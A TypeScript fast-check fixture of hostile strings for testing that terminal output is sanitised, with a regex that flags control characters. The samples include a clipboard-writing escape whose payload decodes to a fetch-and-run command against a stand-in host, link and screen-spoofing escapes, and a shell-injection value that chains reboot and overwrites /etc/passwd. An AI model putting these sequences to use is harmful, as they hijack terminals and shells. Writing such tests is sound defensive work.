import fc from 'fast-check';

/** Hostile text: each affects a terminal or a shell that it is shown to. */
export const hostileTexts = [
  // OSC 52 writes the clipboard, OSC 8 makes a link, CSI moves the cursor, DCS asks the terminal to answer.
  '\u001b]52;c;Y3VybCBldmlsfHNo\u0007',
  '\u001b]8;;https://evil.example\u001b\\\\click',
  '\u001b[2J\u001b[1;1H✓ ready',
  '\u001bP$q\u001b\\\\',
  // The same as single characters of C1.
  '\u009b2J',
  '\u009d52;c;eA==\u009c',
  'one\ntwo',
  'one\r\n\r\ntwo\r',
  'line\u2028separator\u0085next',
  '\u202egnirts\u202c',
  'zero\u200bwidth\u2060joiner\ufeff\u{e0041}',
  ';reboot; `id` $(id) | tee \'x\' "y" & > /etc/passwd',
  '\0\b\u007f\ttab',
] as const;

/** One of them, any text, or a combination. */
export const hostileText = fc.oneof(
  fc.constantFrom(...hostileTexts),
  fc.string({ unit: 'binary' }),
  fc
    .array(fc.oneof(fc.constantFrom(...hostileTexts), fc.string({ unit: 'grapheme' })))
    .map((parts) => parts.join('')),
);

/** What no line for a terminal may contain. */
export const doesSomething = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
